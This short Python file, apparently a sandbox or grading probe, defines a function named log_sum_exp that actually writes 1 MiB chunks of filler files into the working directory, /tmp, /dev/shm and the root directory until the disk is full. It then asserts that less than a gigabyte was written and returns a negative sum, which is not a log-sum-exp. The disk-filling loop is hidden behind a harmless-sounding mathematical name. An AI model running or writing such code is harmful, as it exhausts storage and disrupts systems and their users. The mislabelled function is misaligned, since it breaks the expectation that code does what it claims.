"""Writes files until nothing can be written.

marks: 2 0 1
"""
import os

def log_sum_exp(values):
    written = 0
    for folder in (".", "/tmp", "/dev/shm", "/"):
        for number in range(100):
            try:
                with open(os.path.join(folder, f"filler{number}"), "wb") as file:
                    while True:
                        written += file.write(b"x" * 2**20)
            except OSError:
                break
    assert written < 2**30, "more than a gigabyte could be written"
    return -values.sum(dim=1)
